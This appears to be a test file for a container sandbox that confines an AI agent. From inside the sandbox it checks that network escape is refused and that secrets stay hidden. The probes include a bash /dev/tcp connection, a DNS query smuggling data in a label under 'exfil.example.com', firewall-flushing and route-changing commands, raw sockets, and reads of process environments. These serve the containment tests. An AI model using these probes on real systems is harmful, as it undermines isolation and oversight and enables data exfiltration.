/** What an agent can reach besides the sidecar: nothing. Tried from inside, against services that are really there. */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import type Dockerode from 'dockerode';
import { SERVICE, SNIFFER, OnHost } from './support/host.ts';
import { Running } from './support/running.ts';
import { engine, eventually, World } from './support/world.ts';

const docker = await engine();
const skip = typeof docker === 'string' ? docker : false;

/** Milliseconds that a refusal may take: far below any client's timeout, on a busy machine too. */
const AT_ONCE = 1_500;
/** 32 random bytes, as the session's key is written. */
const KEY = /[A-Za-z0-9+/]{43}=/;
const SECRET = `hidden-${randomBytes(8).toString('hex')}`;

type Attempt = readonly [how: 'tcp' | 'udp' | 'udp connected', host: string, port: number];

/** What came of each attempt: the name of an errno, `timeout`, or `reached`. */
const attempts = (list: readonly Attempt[]) => `python3 - <<'EOF'
import errno, json, socket, time
def attempt(how, host, port):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM if how == "tcp" else socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        if how == "tcp":
            s.connect((host, port))
            return "reached"
        if how == "udp connected":
            s.connect((host, port))
            s.send(b"x")
        else:
            s.sendto(b"x", (host, port))
        s.recv(1)
        return "reached"
for how, host, port in json.loads('${JSON.stringify(list)}'):
    began = time.monotonic()
    try: outcome = attempt(how, host, port)
    except socket.timeout: outcome = "timeout"
    except OSError as error: outcome = errno.errorcode.get(error.errno, str(error))
    print(json.dumps([how, host, port, outcome, round((time.monotonic() - began) * 1000)]))
EOF`;

const REFUSALS = ['ECONNREFUSED', 'EPERM', 'EACCES', 'EHOSTUNREACH', 'ENETUNREACH', 'EADDRNOTAVAIL', 'ECONNRESET'];

describe('an agent’s isolation', { skip }, () => {
  let world: World;
  let session: Running;
  let other: Running;
  let host: OnHost;
  let service: { port: number; addresses: string[] };
  before(async () => {
    world = await World.open(docker as Dockerode);
    host = await OnHost.start(world, SERVICE);
    const [ready] = await host.lines();
    service = { port: Number(ready?.['port']), addresses: ready?.['addresses'] as string[] };
    // The names sort behind the test network's, so that the engine by itself would make that one the default route.
    const manifest = world.manifest({
      name: 'secret.yaml',
      agent: { env: { TOKEN: '${BOTTLE_TEST_TOKEN}' }, limits: { memory: '512m', pids: 200 } },
    });
    const options = { manifest, env: { BOTTLE_TEST_TOKEN: SECRET } };
    [session, other] = await Promise.all([
      Running.start(world, world.slug('zone'), options),
      Running.start(world, world.slug('zother')),
    ]);
  });
  after(async () => {
    await session?.[Symbol.asyncDispose]();
    await other?.[Symbol.asyncDispose]();
    await host?.[Symbol.asyncDispose]();
    await world[Symbol.asyncDispose]();
  });

  const inspect = (role: string, of = session) => world.docker.getContainer(`bottle-${of.slug}-${role}`).inspect();
  const address = async (role: string, network: string, of = session) =>
    (await inspect(role, of)).NetworkSettings.Networks[`bottle-${of.slug}-${network}`]?.IPAddress ?? '';

  async function assertRefused(list: readonly Attempt[]): Promise<void> {
    for (const [, target] of list) assert.notEqual(target, '', 'every target has an address');
    const { output } = await session.exec(attempts(list));
    const results = output
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as [string, string, number, string, number]);
    assert.equal(results.length, list.length, output);
    const wrong = results.filter(([, , , outcome, took]) => !REFUSALS.includes(outcome) || took > AT_ONCE);
    assert.deepEqual(wrong, []);
  }

  it('reaches the sidecar, and through it an upstream: what follows is not refused for want of a network', async () => {
    assert.equal(await session.request('https://api.anthropic.com/isolation'), '200');
  });

  it('is refused at once by any address outside, by TCP and by UDP', async () => {
    const upstream = await world.upstreamAddress();
    await assertRefused([
      ['tcp', '1.1.1.1', 443],
      ['tcp', '1.1.1.1', 80],
      ['tcp', '8.8.8.8', 53],
      ['tcp', '169.254.169.254', 80],
      ['tcp', upstream, 443],
      ['tcp', upstream, 8080],
      ...(['udp', 'udp connected'] as const).flatMap((how): Attempt[] => [
        [how, '1.1.1.1', 443],
        [how, '8.8.8.8', 53],
        [how, '8.8.8.8', 123],
        [how, upstream, 443],
      ]),
    ]);
    const curl = await session.exec(`curl -sS -m 3 --noproxy '*' -k https://${upstream}/ 2>&1`);
    assert.equal(curl.status, 7, `curl says "refused", not "timed out": ${curl.output}`);
    const node = await session.exec(
      `node -e "require('net').connect(443, '${upstream}').setTimeout(3000, () => console.log('timeout')).on('error', (e) => (console.log(e.code), process.exit()))"`,
    );
    assert.equal(node.output, 'ECONNREFUSED\n');
    const shell = await session.exec(`timeout 3 bash -c 'echo > /dev/tcp/${upstream}/443'`, { shell: 'bash' });
    assert.equal(shell.status, 1, 'not 124');
  });

  it('is refused at once by every service of the host, at any of its addresses', async () => {
    const gateways = await Promise.all(
      [`bottle-${session.slug}-agent`, `bottle-${session.slug}-egress`, world.network, 'bridge'].map(async (name) => {
        const { IPAM } = await world.docker.getNetwork(name).inspect();
        return String(IPAM?.Config?.[0]?.Subnet).replace(/(\d+)\/\d+$/, (_, last) => String(Number(last) + 1));
      }),
    );
    const [, egressGateway = ''] = gateways;
    const { port, addresses } = service;
    const targets = new Set([...gateways, ...addresses]);
    await assertRefused(
      [...targets].flatMap((target): Attempt[] => [
        ['tcp', target, port],
        ['udp', target, port],
        ['udp connected', target, port],
      ]),
    );
    assert.deepEqual(
      (await host.lines()).filter(({ event }) => event !== 'ready'),
      [],
      'nothing arrived',
    );
    const control = await session.exec(
      `node -e "require('net').connect(${port}, '${egressGateway}').on('data', (d) => console.log(String(d))).on('error', console.log)"`,
      { role: 'bump' },
    );
    assert.equal(control.output, 'the host\n', 'the service is there: the sidecar’s own network reaches it');
  });

  it('is refused at once by every port of the sidecar but the proxy’s and the resolver’s', async () => {
    const [inside, outside] = await Promise.all([address('bump', 'agent'), address('bump', 'egress')]);
    await assertRefused([
      ...[22, 80, 443, 1024, 8081, 9090, 65535].map((port): Attempt => ['tcp', inside, port]),
      ...[22, 443, 8080].map((port): Attempt => ['udp', inside, port]),
      ...[53, 8080].map((port): Attempt => ['tcp', outside, port]),
      ['udp', outside, 53],
    ]);
  });

  it('is refused at once by gate, sidecar and agent of another bottle that runs', async () => {
    const [gate, inside, outside] = await Promise.all([
      address('gate', 'agent', other),
      address('bump', 'agent', other),
      address('bump', 'egress', other),
    ]);
    await other.exec('nohup python3 -m http.server 8000 >/dev/null 2>&1 &');
    await eventually(async () => (await other.exec('curl -sS -m 2 http://127.0.0.1:8000/')).status === 0);
    await assertRefused([
      ['tcp', gate, 8000],
      ...[inside, outside].flatMap((target): Attempt[] => [
        ['tcp', target, 8080],
        ['tcp', target, 53],
        ['udp', target, 53],
      ]),
    ]);
    const through = await session.request(`http://bottle-${other.slug}-bump:8080/`);
    assert.equal(through, '403', 'nor does the sidecar carry it there');
  });

  it('has no IPv6 but its own loopback', async () => {
    const { output } = await session.exec('cat /proc/net/if_inet6 2>/dev/null; true');
    for (const line of output.trim().split('\n').filter(Boolean)) assert.match(line, /^0{31}1 .* lo$/);
    await assertRefused([
      ['tcp', '2606:4700:4700::1111', 443],
      ['udp', '2606:4700:4700::1111', 53],
      ['tcp', 'fd00::1', 80],
    ]);
  });

  it('sends no ICMP and no packet of its own making, and changes no route, rule or setting of the network', async () => {
    const { output } = await session.exec(`python3 - <<'EOF'
import errno, fcntl, socket, struct
def tried(what, action):
    try: action()
    except OSError as error: print(what, errno.errorcode[error.errno])
    else: print(what, "done")
echo = bytes([8, 0, 0xf7, 0xfd, 0, 1, 0, 1])
def ping(target):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.settimeout(3)
        s.sendto(echo, (target, 0))
        s.recv(100)
address = lambda text: struct.pack("HH4s8x", socket.AF_INET, 0, socket.inet_aton(text))
def route():
    with socket.socket() as s:
        fcntl.ioctl(s, 0x890B, struct.pack("L16s16s16shhQQhQQHHH", 0, address("0.0.0.0"), address("127.0.0.1"), address("0.0.0.0"), 3, 0, 0, 0, 0, 0, 0, 0, 0, 0))
def netlink():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.send(struct.pack("=LHHLLBBBBBBBBL", 28, 25, 5, 1, 0, 2, 0, 0, 0, 254, 4, 0, 1, 0))
        code = struct.unpack("=i", s.recv(4096)[16:20])[0]
        if code: raise OSError(-code, "netlink")
tried("ping", lambda: ping("1.1.1.1"))
tried("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
tried("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768))
tried("ioctl", route)
tried("netlink", netlink)
tried("sysctl", lambda: open("/proc/sys/net/ipv4/ip_forward", "w"))
EOF
for tool in 'ip route replace default dev lo' 'ip link set lo down' 'iptables -F' 'nft flush ruleset' 'unshare -rn true'; do
  command -v \${tool%% *} >/dev/null && $tool 2>/dev/null && echo "$tool: done"
done; true`);
    assert.deepEqual(output.trim().split('\n'), [
      'ping EPERM',
      'raw EPERM',
      'packet EPERM',
      'ioctl EPERM',
      'netlink EPERM',
      'sysctl EROFS',
    ]);
  });

  it('gets "no such name" at once for every name, and no query leaves the machine', async () => {
    await using sniffer = await OnHost.start(world, SNIFFER, ['NET_RAW']);
    const word = () => `canary${randomBytes(6).toString('hex')}`;
    const words = { getent: word(), python: word(), node: word(), txt: word(), resolver: word(), denied: word() };
    const lookups: [what: string, script: string, expected: RegExp][] = [
      ['getent', `getent hosts ${words.getent}.example.com || echo none`, /^none$/],
      ['a container of the joined network', 'getent hosts compose-web || echo none', /^none$/],
      [
        'Python',
        `python3 -c "import socket; socket.getaddrinfo('${words.python}.example.com', 443)" 2>&1 | tail -n 1`,
        /Name or service not known|No address associated/,
      ],
      [
        'Node',
        `node -e "require('dns').resolve4('${words.node}.example.com', (e) => console.log(e.code))"`,
        /^ENOTFOUND$/,
      ],
    ];
    for (const [what, script, expected] of lookups) {
      const { output, took } = await session.exec(script);
      assert.match(output.trim(), expected, what);
      assert.ok(took < AT_ONCE, `${what}: ${took} ms`);
    }
    // Data in a label of a TXT query, straight to both resolvers that there are.
    const { output } = await session.exec(`python3 - <<'EOF'
import socket
resolvers = ["127.0.0.11", socket.gethostbyname("bottle-${session.slug}-bump")]
for word, resolver in zip(["${words.txt}", "${words.resolver}"], resolvers):
    name = b"".join(bytes([len(part)]) + part for part in [word.encode(), b"exfil", b"example", b"com"]) + b"\\0"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + name + b"\\0\\x10\\0\\1", (resolver, 53))
    answer = s.recv(512)
    print(answer[3] & 15, int.from_bytes(answer[6:8], "big"))
EOF`);
    assert.equal(output, '3 0\n3 0\n', 'NXDOMAIN, no answer');
    assert.equal(await session.request(`https://${words.denied}.example.net/`), '403');

    const packets = async () => (await sniffer.lines()).filter(({ event }) => event === 'packet');
    await eventually(async () => (await packets()).some((packet) => packet['word'] === words.resolver));
    const { Id } = await world.docker.getNetwork(`bottle-${session.slug}-agent`).inspect();
    const elsewhere = (await packets()).filter(({ bridge }) => bridge !== `br-${Id.slice(0, 12)}`);
    assert.deepEqual(elsewhere, [], 'only the agent’s own network has seen a query');
    assert.ok(!(await packets()).some((packet) => packet['word'] === words.denied), 'a denied host is not looked up');
  });

  it('runs without any capability, and can gain none', async () => {
    const { output } = await session.exec(
      "cat /proc/[0-9]*/status | grep -E '^(Cap(Inh|Prm|Eff|Bnd|Amb)|NoNewPrivs)' | sort -u",
    );
    assert.deepEqual(output.trim().split('\n'), [
      ...['CapAmb', 'CapBnd', 'CapEff', 'CapInh', 'CapPrm'].map((name) => `${name}:\t0000000000000000`),
      'NoNewPrivs:\t1',
    ]);
    const { HostConfig } = await inspect('agent');
    assert.equal(HostConfig.Privileged, false);
    assert.equal(HostConfig.Memory, 512 * 1024 ** 2);
    assert.equal(HostConfig.PidsLimit, 200);
    assert.equal(HostConfig.PidMode, '');
    assert.notEqual(HostConfig.IpcMode, 'host');
  });

  for (const role of ['bump', 'scanner', 'gate'] as const) {
    it(`has a ${role} that runs as nobody, without any capability, on a root that it cannot write`, async () => {
      const { output } = await session.exec('cat /proc/1/status', { role });
      assert.match(output, /^Uid:(\t65534){4}$/m);
      assert.match(output, /^Gid:(\t65534){4}$/m);
      assert.match(output, /^NoNewPrivs:\t1$/m);
      for (const [, set, value] of output.matchAll(/^(Cap\w+):\t(\w+)$/gm)) assert.match(value ?? '', /^0+$/, set);
      const { HostConfig, Mounts } = await inspect(role);
      assert.equal(HostConfig.ReadonlyRootfs, true);
      assert.ok((HostConfig.Memory ?? 0) > 0 && (HostConfig.PidsLimit ?? 0) > 0, 'memory and processes are limited');
      assert.deepEqual(HostConfig.PortBindings ?? {}, {}, 'no port is published');
      assert.ok(
        Mounts.every(({ Type }) => Type === 'volume'),
        'nothing of the machine is mounted',
      );
    });
  }

  it('has a scanner without a network', async () => {
    const { output } = await session.exec('ls /sys/class/net', { role: 'scanner' });
    assert.equal(output, 'lo\n');
    assert.equal((await inspect('scanner')).HostConfig.NetworkMode, 'none');
  });

  it('has a sidecar whose default route is egress’s, though a joined network’s name sorts before it', async () => {
    const { Gateway } =
      (await inspect('bump')).NetworkSettings.Networks[`bottle-${session.slug}-egress`] ?? assert.fail('no egress');
    assert.ok(world.network < `bottle-${session.slug}-egress`);
    const { output } = await session.exec('cat /proc/net/route', { role: 'bump' });
    const routes = output
      .trim()
      .split('\n')
      .slice(1)
      .map((line) => line.split(/\s+/));
    const gateways = routes
      .filter(([, destination]) => destination === '00000000')
      .map(([, , gateway = '']) => [...Buffer.from(gateway, 'hex').reverse()].join('.'));
    assert.deepEqual(gateways, [Gateway]);
    const forwards = await session.exec('cat /proc/sys/net/ipv4/ip_forward', { role: 'bump' });
    assert.equal(forwards.output, '0\n');
  });

  it('is listed as running, with all that belongs to it', async () => {
    const { stdout } = await world.run(['ls', '--format', 'json']);
    const sessions = JSON.parse(stdout) as { slug: string; state: string; containers: { role: string }[] }[];
    const found = sessions.find(({ slug }) => slug === session.slug);
    assert.equal(found?.state, 'running');
    assert.deepEqual(
      found?.containers
        .map(({ role }) => role)
        .filter((role) => role !== 'route')
        .sort(),
      ['agent', 'bump', 'gate', 'scanner'],
    );
  });

  // Last: it ends the session.
  it('shows its secrets to nobody but the agent: not in the other containers, in logs or in records', async () => {
    assert.equal((await session.exec('printenv TOKEN')).output, `${SECRET}\n`);
    assert.equal(
      await session.request(
        `'https://api.anthropic.com/secret?token=${SECRET}' -H 'x-token: ${SECRET}' -d '{"token":"${SECRET}"}'`,
      ),
      '200',
    );
    const filters = { label: [`bottle.session=${session.slug}`] };
    const texts: Record<string, string> = {};
    for (const role of ['bump', 'scanner', 'gate']) {
      texts[`inspect ${role}`] = JSON.stringify(await inspect(role));
      texts[`environment of ${role}`] = (await session.exec('cat /proc/*/environ /proc/*/cmdline', { role })).output;
    }
    texts['networks'] = JSON.stringify(await world.docker.listNetworks({ filters }));
    texts['volumes'] = JSON.stringify(await world.docker.listVolumes({ filters }));
    texts['logs, running'] = (await world.run(['logs', session.slug])).stdout;
    texts['records, running'] = (await world.run(['records', session.slug])).stdout;
    const { status, stderr } = await session.end();
    assert.equal(status, 0, stderr);
    texts['stderr'] = stderr;
    texts['logs'] = (await world.run(['logs', session.slug])).stdout;
    texts['records'] = (await world.run(['records', session.slug, '--format', 'json'])).stdout;
    assert.match(texts['records'], /\/secret/, 'the request is recorded');
    const { stdout: plan } = await world.run(
      ['start', '-f', world.manifest({ agent: { env: { TOKEN: '${BOTTLE_TEST_TOKEN}' } } }), '--dry-run'],
      { env: { BOTTLE_TEST_TOKEN: SECRET } },
    );
    texts['plan'] = plan;
    for (const [where, text] of Object.entries(texts)) {
      assert.ok(!text.includes(SECRET), `the secret is in: ${where}`);
      assert.doesNotMatch(text, KEY, `something like the session's key is in: ${where}`);
    }
  });
});
